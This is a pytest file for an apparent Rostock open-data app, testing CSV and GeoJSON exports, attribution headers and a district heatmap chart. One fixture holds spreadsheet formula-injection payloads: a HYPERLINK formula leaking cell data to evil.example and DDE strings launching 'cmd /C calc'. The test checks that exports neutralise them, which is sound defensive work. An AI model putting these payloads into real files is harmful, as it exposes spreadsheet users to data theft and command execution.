"""Downloads (figures.export) and the resilience heatmap, checked against the mirrored data."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import shapely

import geodata
from figures import charts
from figures.export import attribution_header, export, export_formats
from geodata import StoreError, loaders
from geodata.indicators import BY_ID
from tests.helpers.mirror import fast_settings, needs_mirror, renamed_store

pytestmark = needs_mirror

LON, LAT = (11.9, 12.4), (54.0, 54.3)
MIRRORED = [ds.id for ds in geodata.load_catalogue().values() if ds.mirrored]


@pytest.fixture(scope="module")
def settings(good_store: Path) -> geodata.Settings:
    return fast_settings(good_store, None)


@pytest.fixture(scope="module")
def retrieved(settings: geodata.Settings) -> str:
    return geodata.Store(settings).meta("stadtbereiche")["retrieved_at"][:10]


FILE_DATES = {"bevoelkerung": "2023-12-31", "klima_mv": "1881-2023",
              "meeresspiegel_warnemuende": "1855-04-2017-12",
              "klima_warnemuende": "2003-03-2021-07"}


def _in_rostock(lon: float, lat: float) -> bool:
    return LON[0] <= lon <= LON[1] and LAT[0] <= lat <= LAT[1]


# --- export ----------------------------------------------------------------------------------


def test_formats_follow_the_catalogue() -> None:
    assert export_formats("stadtbereiche") == ["geojson", "csv"]
    assert export_formats("wasser") == ["geojson", "csv"]
    assert export_formats("bevoelkerung") == ["csv"]
    with pytest.raises(KeyError, match="unknown dataset"):
        export_formats("gibt_es_nicht")


def test_every_mirrored_dataset_exports_in_each_format(settings: geodata.Settings) -> None:
    store = geodata.Store(settings)
    for dataset_id in MIRRORED:
        retrieved = store.meta(dataset_id)["retrieved_at"][:10]
        date = FILE_DATES.get(dataset_id, f"abgerufen-{retrieved}")
        for fmt in export_formats(dataset_id):
            content, name, mime = export(dataset_id, fmt, settings)
            assert name == f"rostock_{dataset_id}_{date}.{fmt}"
            if fmt == "geojson":
                assert mime == "application/geo+json"
                doc = json.loads(content.decode("utf-8"))
                assert doc["type"] == "FeatureCollection" and doc["features"]
            else:
                assert mime == "text/csv"
                assert content.startswith(b"\xef\xbb\xbf")
                frame = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig")
                assert len(frame) == store.meta(dataset_id)["rows"], dataset_id


def test_stadtbereiche_geojson_is_plain_rfc7946(settings: geodata.Settings,
                                               retrieved: str) -> None:
    content, name, _ = export("stadtbereiche", "geojson", settings)
    assert name == f"rostock_stadtbereiche_abgerufen-{retrieved}.geojson"
    assert not content.startswith(b"\xef\xbb\xbf")
    assert "Lütten Klein".encode() in content  # UTF-8 as is, not \u escapes
    doc = json.loads(content)
    assert set(doc) == {"type", "features"}  # no crs, no metadata
    assert len(doc["features"]) == 21
    assert "Lütten Klein" in {f["properties"]["bezeichnung"] for f in doc["features"]}
    for feature in doc["features"]:  # provenance where readers keep it: in each feature
        props = feature["properties"]
        assert props["licence"].startswith("CC0 1.0") and "OpenData.HRO" in props["source"]
        assert props["data_date"] is None and props["retrieved"] == retrieved
    for feature in doc["features"]:
        geom = shapely.geometry.shape(feature["geometry"])
        minx, miny, maxx, maxy = geom.bounds
        assert _in_rostock(minx, miny) and _in_rostock(maxx, maxy)
        for poly in getattr(geom, "geoms", [geom]):  # right-hand rule: exteriors CCW
            assert poly.exterior.is_ccw


def test_stadtbereiche_csv_carries_wkt_in_lon_lat(settings: geodata.Settings) -> None:
    content, name, _ = export("stadtbereiche", "CSV", settings)
    assert name.endswith(".csv")
    frame = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig")
    assert len(frame) == 21 and frame.columns[-1] == "geometry_wkt"
    assert "geometry" not in frame.columns
    assert "Lütten Klein" in set(frame["bezeichnung"])
    for wkt in frame["geometry_wkt"]:
        minx, miny, maxx, maxy = shapely.from_wkt(wkt).bounds
        assert _in_rostock(minx, miny) and _in_rostock(maxx, maxy)


def test_bevoelkerung_csv_is_the_tidy_table(settings: geodata.Settings) -> None:
    content, _, _ = export("bevoelkerung", "csv", settings)
    first_line = content.decode("utf-8-sig").split("\n", 1)[0]
    assert first_line == "code,year,topic,indicator,value"  # header first, no comment line
    frame = pd.read_csv(io.BytesIO(content), encoding="utf-8-sig")
    rows = frame[(frame["year"] == 2023) & (frame["indicator"] == "einwohnerzahl")]
    assert len(rows) == 21
    assert rows["value"].sum() == 211692


FORMULAS = {"A": '=HYPERLINK("http://evil.example/?leak="&A1,"Warnemünde")',
            "B": "+SUM(1+1)*cmd|' /C calc'!A0", "C": "-2+3+cmd|' /C calc'!A0",
            "D": "@SUM(1+1)"}


def _csv_rows(content: bytes, sep: str = ",") -> list[list[str]]:
    """The cells as a spreadsheet reads them (quotes removed, nothing else changed)."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""),
                           delimiter=sep))


def test_csv_cells_from_the_data_cannot_run_as_formulas(
        tmp_path: Path, good_store: Path) -> None:
    """District names that a spreadsheet would run (OWASP's list: = + - @, tab and CR, which
    validation already strips from names) come out with a leading apostrophe; negative
    numbers in numeric columns stay numbers."""
    store = renamed_store(tmp_path / "data", good_store, FORMULAS)
    settings = fast_settings(store, None)
    rows = _csv_rows(export("stadtbereiche", "csv", settings)[0])
    code, name = rows[0].index("code"), rows[0].index("bezeichnung")
    names = {row[code]: row[name] for row in rows[1:]}
    for code, formula in FORMULAS.items():
        assert names[code] == "'" + formula, code
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    # The population table has negative values (migration balance): still plain numbers.
    tidy = _csv_rows(export("bevoelkerung", "csv", settings)[0])
    negative = [row[-1] for row in tidy[1:] if row[-1].startswith("-")]
    assert negative and all(float(v) < 0 for v in negative)


def test_file_name_carries_the_data_date_not_today(store_copy: Path) -> None:
    settings = fast_settings(store_copy, None)
    geodata.Store(settings).touch("klima_mv", reference={"kind": "years", "start": "1881",
                                                         "end": "2020"})
    _, name, _ = export("klima_mv", "csv", settings)
    assert name == "rostock_klima_mv_1881-2020.csv"
    assert "Zeitraum der Daten 1881–2020 · abgerufen " in attribution_header("klima_mv",
                                                                             settings)


def test_geojson_features_keep_a_data_column_named_like_the_provenance() -> None:
    import geopandas as gpd
    from shapely.geometry import Point

    from figures.export import geojson_bytes

    gdf = gpd.GeoDataFrame({"source": ["Zählstelle"]}, geometry=[Point(12.1, 54.1)],
                           crs="EPSG:4326")
    props = json.loads(geojson_bytes(gdf, {"source": "OpenData.HRO", "licence": "CC0 1.0"})
                       )["features"][0]["properties"]
    assert props == {"source": "Zählstelle", "meta_source": "OpenData.HRO",
                     "licence": "CC0 1.0"}


def test_unknown_dataset_or_format_is_refused(settings: geodata.Settings) -> None:
    with pytest.raises(ValueError, match="formats are: csv"):
        export("bevoelkerung", "geojson", settings)
    with pytest.raises(ValueError, match="xlsx"):
        export("stadtbereiche", "xlsx", settings)
    with pytest.raises(KeyError):
        export("gibt_es_nicht", "csv", settings)


def test_dataset_without_a_copy_raises_store_error(settings: geodata.Settings) -> None:
    with pytest.raises(StoreError, match="no local copy"):
        export("baeume", "geojson", settings)
    assert "Datenstand unbekannt · noch nicht abgerufen." in attribution_header(
        "baeume", settings)


def test_attribution_header_names_source_licence_and_both_dates(settings: geodata.Settings,
                                                                retrieved: str) -> None:
    line = attribution_header("stadtbereiche", settings)
    assert "\n" not in line
    day = f"{retrieved[8:10]}.{retrieved[5:7]}.{retrieved[:4]}"
    assert "OpenData.HRO" in line and "Lizenz: CC0 1.0" in line
    assert f"Ohne Datum in den Daten · abgerufen {day}." in line
    assert "Datenstand 31.12.2023" in attribution_header("bevoelkerung", settings)
    dwd = attribution_header("klima_mv", settings, lang="en")
    assert "Deutscher Wetterdienst" in dwd and "Licence: CC BY 4.0" in dwd
    assert "Quelle: Quelle" not in attribution_header("klima_mv", settings)


# --- resilience heatmap ----------------------------------------------------------------------

CHOSEN = ["einwohner", "dichte", "geburten", "anteil_65_plus", "veraenderung_vorjahr_pct"]


@pytest.fixture(scope="module")
def ind(settings: geodata.Settings) -> pd.DataFrame:
    return loaders.indicators(settings)


@pytest.fixture(scope="module")
def names(settings: geodata.Settings) -> pd.Series:
    return loaders.districts(settings).set_index("code")["name"]


def _data(spec: dict[str, Any]) -> pd.DataFrame:
    (values,) = spec["datasets"].values()
    return pd.DataFrame(values)


def test_heatmap_has_21_districts_and_the_indicators_with_data(
        ind: pd.DataFrame, names: pd.Series) -> None:
    spec = charts.resilience_heatmap(ind, 2023, CHOSEN, names=names).to_dict()
    data = _data(spec)
    kept = [i for i in CHOSEN if i != "geburten"]  # births end in 2019
    assert set(data["indicator"]) == set(kept)
    assert len(data) == 21 * len(kept)
    assert data.groupby("indicator")["district"].nunique().eq(21).all()
    assert "Lütten Klein" in set(data["district"])
    x = spec["layer"][0]["encoding"]["x"]
    assert x["sort"] == [BY_ID[i].label("de") for i in kept]
    y_sort = spec["layer"][0]["encoding"]["y"]["sort"]
    assert y_sort[0] == "Biestow" and y_sort[-1] == "Warnemünde"
    assert y_sort.index("Südstadt") < y_sort.index("Toitenwinkel")  # ü sorts like u


def test_heatmap_names_the_dropped_indicator_in_the_subtitle(ind: pd.DataFrame) -> None:
    spec = charts.resilience_heatmap(ind, 2023, CHOSEN).to_dict()
    subtitle = " ".join(spec["title"]["subtitle"])
    assert "ohne Daten 2023: Lebendgeborene" in subtitle
    en = " ".join(charts.resilience_heatmap(ind, 2023, CHOSEN, "en").to_dict()
                  ["title"]["subtitle"])
    assert "no data for 2023: Live births" in en


def test_heatmap_z_is_highest_for_the_densest_district(ind: pd.DataFrame) -> None:
    data = _data(charts.resilience_heatmap(ind, 2023, ["dichte", "einwohner"]).to_dict())
    dense = data[data["indicator"] == "dichte"]
    assert dense.loc[dense["value"].idxmax(), "z"] == dense["z"].max() > 0
    assert dense["z"].mean() == pytest.approx(0, abs=0.01)
    top = ind[(ind.year == 2023) & (ind.indicator == "dichte")].sort_values("value").iloc[-1]
    assert dense.loc[dense["z"].idxmax(), "code"] == top["code"]


def test_heatmap_scale_is_symmetric_and_german(ind: pd.DataFrame) -> None:
    spec = charts.resilience_heatmap(ind, 2023, CHOSEN).to_dict()
    scale = spec["layer"][0]["encoding"]["color"]["scale"]
    assert scale["scheme"] == "purpleorange" and scale["domain"][0] == -scale["domain"][1]
    assert spec["config"]["locale"]["number"]["decimal"] == ","
    assert "locale" not in charts.resilience_heatmap(ind, 2023, CHOSEN, "en").to_dict()["config"]


def test_heatmap_is_inline_only(ind: pd.DataFrame) -> None:
    spec = charts.resilience_heatmap(ind, 2023, CHOSEN).to_dict()
    spec.pop("$schema")
    text = json.dumps(spec, ensure_ascii=False)
    assert "http" not in text and '"url"' not in text


def test_heatmap_refuses_unknown_indicators_and_empty_years(ind: pd.DataFrame) -> None:
    with pytest.raises(ValueError, match="Unknown indicator"):
        charts.resilience_heatmap(ind, 2023, ["dichte", "glueck"])
    with pytest.raises(ValueError, match="has data for 1990"):
        charts.resilience_heatmap(ind, 1990, ["dichte"])


def test_heatmap_cell_formats_follow_the_published_decimals(ind: pd.DataFrame) -> None:
    data = _data(charts.resilience_heatmap(ind, 2023, CHOSEN).to_dict())
    fmt = data.drop_duplicates("indicator").set_index("indicator")["fmt"]
    assert fmt["einwohner"] == ",.0f" and fmt["anteil_65_plus"] == ",.1f"
    assert re.fullmatch(r",\.[0-2]f", fmt["veraenderung_vorjahr_pct"])
